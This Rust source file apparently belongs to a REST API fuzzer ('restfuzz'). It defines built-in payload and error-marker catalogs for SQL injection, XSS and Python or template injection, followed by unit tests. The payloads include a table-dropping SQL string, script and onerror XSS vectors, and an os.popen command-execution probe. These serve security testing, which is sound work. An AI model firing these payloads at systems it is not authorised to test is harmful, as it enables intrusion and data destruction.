// Payload and marker catalogs for restfuzz
// Built-in lists per vulnerability type, or line-based custom files

use std::fmt;
use std::fs;
use std::path::Path;
use std::str::FromStr;

use crate::error::FuzzError;

/// Vulnerability class selected with `--type`
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum VulnType {
    Sql,
    Xss,
    Python,
}

impl VulnType {
    pub fn all() -> [VulnType; 3] {
        [VulnType::Sql, VulnType::Xss, VulnType::Python]
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            VulnType::Sql => "sql",
            VulnType::Xss => "xss",
            VulnType::Python => "python",
        }
    }

    fn payloads(&self) -> &'static [&'static str] {
        match self {
            VulnType::Sql => SQL_PAYLOADS,
            VulnType::Xss => XSS_PAYLOADS,
            VulnType::Python => PYTHON_PAYLOADS,
        }
    }

    fn markers(&self) -> &'static [&'static str] {
        match self {
            VulnType::Sql => SQL_MARKERS,
            VulnType::Xss => XSS_MARKERS,
            VulnType::Python => PYTHON_MARKERS,
        }
    }
}

impl fmt::Display for VulnType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for VulnType {
    type Err = FuzzError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_lowercase().as_str() {
            "sql" | "sqli" => Ok(VulnType::Sql),
            "xss" => Ok(VulnType::Xss),
            "python" | "py" => Ok(VulnType::Python),
            _ => Err(FuzzError::UnknownVulnType { name: s.to_string() }),
        }
    }
}

const SQL_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "' OR 1=1",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"1\"=\"1",
    "1' ORDER BY 1--",
    "1' UNION SELECT NULL--",
    "1; DROP TABLE users--",
    "')) OR 1=1--",
    "' AND SLEEP(5)--",
    "1 AND 1=CONVERT(int,@@version)",
];

const SQL_MARKERS: &[&str] = &[
    "sql syntax",
    "syntax error",
    "mysql_fetch",
    "mysqli",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "ORA-0",
    "pg_query",
    "PSQLException",
    "SQLSTATE",
    "SQLite3::",
    "sqlite_error",
    "ODBC Driver",
    "unterminated quoted string",
];

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'\"><iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
];

const XSS_MARKERS: &[&str] = &[
    "<script>alert(1)</script>",
    "onerror=alert(1)",
    "<svg/onload=alert(1)>",
    "src=javascript:alert(1)",
    "onload=alert(1)",
];

const PYTHON_PAYLOADS: &[&str] = &[
    "__import__('os').popen('id').read()",
    "eval('1+')",
    "{{7*'7'}}",
    "{{config}}",
    "'+str(1/0)+'",
    "${7*7}",
    "__import__('sys').exit()",
];

const PYTHON_MARKERS: &[&str] = &[
    "Traceback (most recent call last)",
    "SyntaxError",
    "NameError",
    "ZeroDivisionError",
    "File \"<string>\"",
    "uid=",
    "7777777",
    "<Config",
];

/// Ordered list of payloads injected into every parameter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadCatalog {
    pub name: String,
    pub payloads: Vec<String>,
}

impl PayloadCatalog {
    pub fn new(name: &str, payloads: Vec<String>) -> Self {
        Self {
            name: name.to_string(),
            payloads,
        }
    }

    pub fn builtin(vuln: VulnType) -> Self {
        Self::new(vuln.as_str(), to_owned_list(vuln.payloads()))
    }

    /// Load payloads from a file, one per line.
    ///
    /// Blank lines are skipped. Leading and trailing spaces are kept since
    /// they can be part of an injection.
    pub fn from_file(path: &Path) -> Result<Self, FuzzError> {
        let payloads: Vec<String> = read_catalog_file(path)?
            .lines()
            .filter(|line| !line.is_empty())
            .map(str::to_string)
            .collect();
        if payloads.is_empty() {
            return Err(FuzzError::EmptyCatalog { name: path.display().to_string() });
        }
        Ok(Self::new(&path.display().to_string(), payloads))
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}

/// Ordered, case-insensitive substrings whose presence in a response
/// indicates the payload triggered something.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MarkerCatalog {
    pub name: String,
    pub markers: Vec<String>,
}

impl MarkerCatalog {
    pub fn new(name: &str, markers: Vec<String>) -> Self {
        Self {
            name: name.to_string(),
            markers,
        }
    }

    pub fn builtin(vuln: VulnType) -> Self {
        Self::new(vuln.as_str(), to_owned_list(vuln.markers()))
    }

    /// Markers of every built-in type, first occurrence kept.
    pub fn all_builtin() -> Self {
        let mut markers: Vec<String> = Vec::new();
        for vuln in VulnType::all() {
            for marker in vuln.markers() {
                if !markers.iter().any(|m| m.eq_ignore_ascii_case(marker)) {
                    markers.push(marker.to_string());
                }
            }
        }
        Self::new("all", markers)
    }

    /// Load markers from a file, one per line. Lines starting with `#` are comments.
    pub fn from_file(path: &Path) -> Result<Self, FuzzError> {
        let markers: Vec<String> = read_catalog_file(path)?
            .lines()
            .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
            .map(str::to_string)
            .collect();
        if markers.is_empty() {
            return Err(FuzzError::EmptyCatalog { name: path.display().to_string() });
        }
        Ok(Self::new(&path.display().to_string(), markers))
    }

    pub fn len(&self) -> usize {
        self.markers.len()
    }

    pub fn is_empty(&self) -> bool {
        self.markers.is_empty()
    }
}

fn to_owned_list(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn read_catalog_file(path: &Path) -> Result<String, FuzzError> {
    fs::read_to_string(path).map_err(|source| FuzzError::CatalogFile {
        path: path.display().to_string(),
        source,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn vuln_type_parses_case_insensitively() {
        assert_eq!("SQL".parse::<VulnType>().unwrap(), VulnType::Sql);
        assert_eq!("xss".parse::<VulnType>().unwrap(), VulnType::Xss);
        assert_eq!(" Python ".parse::<VulnType>().unwrap(), VulnType::Python);
        assert!(matches!(
            "ldap".parse::<VulnType>(),
            Err(FuzzError::UnknownVulnType { .. })
        ));
    }

    #[test]
    fn builtin_catalogs_are_populated() {
        for vuln in VulnType::all() {
            assert!(!PayloadCatalog::builtin(vuln).is_empty(), "{} payloads", vuln);
            assert!(!MarkerCatalog::builtin(vuln).is_empty(), "{} markers", vuln);
        }
        assert!(MarkerCatalog::builtin(VulnType::Sql)
            .markers
            .contains(&"sql syntax".to_string()));
    }

    #[test]
    fn all_builtin_markers_are_deduplicated() {
        let all = MarkerCatalog::all_builtin();
        let expected: usize = VulnType::all().iter().map(|v| v.markers().len()).sum();
        assert!(all.len() <= expected);
        assert_eq!(all.markers[0], SQL_MARKERS[0]);
        let mut lowered: Vec<String> = all.markers.iter().map(|m| m.to_lowercase()).collect();
        lowered.sort();
        lowered.dedup();
        assert_eq!(lowered.len(), all.len());
    }

    #[test]
    fn payload_file_keeps_whitespace_and_skips_blank_lines() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        write!(file, "' OR 1=1\n\n  padded \n<script>\n").unwrap();
        let catalog = PayloadCatalog::from_file(file.path()).unwrap();
        assert_eq!(catalog.payloads, vec!["' OR 1=1", "  padded ", "<script>"]);
    }

    #[test]
    fn marker_file_skips_comments() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        write!(file, "# database errors\nsql syntax\n\nORA-01756\n").unwrap();
        let catalog = MarkerCatalog::from_file(file.path()).unwrap();
        assert_eq!(catalog.markers, vec!["sql syntax", "ORA-01756"]);
    }

    #[test]
    fn empty_payload_file_is_rejected() {
        let file = tempfile::NamedTempFile::new().unwrap();
        assert!(matches!(
            PayloadCatalog::from_file(file.path()),
            Err(FuzzError::EmptyCatalog { .. })
        ));
    }

    #[test]
    fn missing_file_is_reported() {
        let err = PayloadCatalog::from_file(Path::new("/nonexistent/payloads.txt")).unwrap_err();
        assert!(matches!(err, FuzzError::CatalogFile { .. }));
    }
}
